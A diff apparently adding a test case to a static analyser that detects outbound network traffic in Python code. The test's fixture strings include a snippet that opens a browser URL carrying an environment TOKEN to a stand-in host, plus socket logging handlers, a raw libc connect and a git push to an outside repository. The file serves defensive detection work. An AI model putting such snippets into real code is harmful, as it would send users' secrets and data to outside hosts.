@@ -155,3 +155,14 @@ test('the host name sent on import is high even when the destination is built at
     'high',
   );
 });
+
+test('outbound logic through logging handlers, a browser given data, the C library and git push is egress', () => {
+  const egress = (source: string) => analyzePythonFile('demo/mod.py', new TextEncoder().encode(source))[0].egress;
+  assert.ok(egress('import logging.handlers\nh = logging.handlers.SocketHandler("logs.example", 9020)\n'));
+  assert.ok(egress('import logging.handlers\nh = logging.handlers.HTTPHandler("logs.example", "/in")\n'));
+  assert.ok(egress('import webbrowser, os\nwebbrowser.open("https://c.example/?k=" + os.environ["TOKEN"])\n'));
+  assert.ok(!egress('import webbrowser\nwebbrowser.open("https://docs.example/manual")\n'), 'a fixed page');
+  assert.ok(egress('import ctypes\nlibc = ctypes.CDLL("libc.so.6")\nlibc.connect(3, None, 16)\n'));
+  assert.ok(egress('import os\nos.system("git push https://git.example/x.git HEAD")\n'));
+  assert.ok(!egress('import os\nos.system("git describe --tags")\n'));
+});
